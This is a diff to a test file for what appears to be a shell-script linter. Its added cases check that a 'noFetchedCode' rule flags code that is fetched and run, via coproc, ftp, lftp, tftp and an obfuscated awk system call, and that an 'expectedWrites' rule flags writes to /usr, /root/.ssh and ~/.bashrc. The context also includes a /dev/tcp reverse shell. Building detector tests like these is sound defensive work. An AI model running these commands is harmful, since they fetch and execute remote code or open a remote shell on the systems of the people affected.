@@ -35,7 +35,13 @@ describe("noFetchedCode", () => {
     "curl https://x | python3",
     "sh -c 'curl https://x | sh'",
     "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
-    "f() {\n  curl https://x | sh\n}"
+    "f() {\n  curl https://x | sh\n}",
+    'coproc GET { curl -s https://x; }\ncat <&"${GET[0]}" | bash',
+    'coproc curl -s https://x\nbash <&"${COPROC[0]}"',
+    "ftp -n ftp.example.net <<E\nuser a b\nget run.sh\nquit\nE\n. ./run.sh",
+    "lftp -e 'get a/run.sh -o /tmp/r.sh; quit' ftp.example.net\nsh /tmp/r.sh",
+    "tftp -g -r run.sh 192.0.2.1\nsh run.sh",
+    "awk 'BEGIN { c = sprintf(\"%c%c\", 105, 100); system(c) }'"
   ])("finds %j", (text) =>
     Effect.gen(function* () {
       assert.isNotEmpty(yield* places(text, "noFetchedCode"))
@@ -132,6 +138,13 @@ describe("expectedWrites", () => {
     ["curl -fsSLo /usr/bin/x https://x", ["2: curl /usr/bin/x"]],
     ["echo > /etc/../boot/x", ["2: > /etc/../boot/x"]],
     ["echo > ~/.bashrc", ["2: > ~/.bashrc"]],
+    ["split -b 1M big /usr/lib/part.", ["2: split /usr/lib/part."]],
+    ["find . -depth | cpio -pdm /usr/libexec/agent", ["2: cpio /usr/libexec/agent"]],
+    ["ssh-keygen -q -N '' -f /root/.ssh/id\nssh-keygen -lf /root/.ssh/id", ["2: ssh-keygen /root/.ssh/id"]],
+    [
+      "crudini --set /usr/lib/a.conf main dns none\ncrudini --get /usr/lib/a.conf main dns",
+      ["2: crudini /usr/lib/a.conf"]
+    ],
     ["echo > /optional", ["2: > /optional"]],
     ['echo > /dev/null 2> /dev/stderr\ncat < /root/x\necho > "$1"\necho > a\necho > /usr/$X', []]
   ])("finds in %j what is outside", ([text, expected]) =>
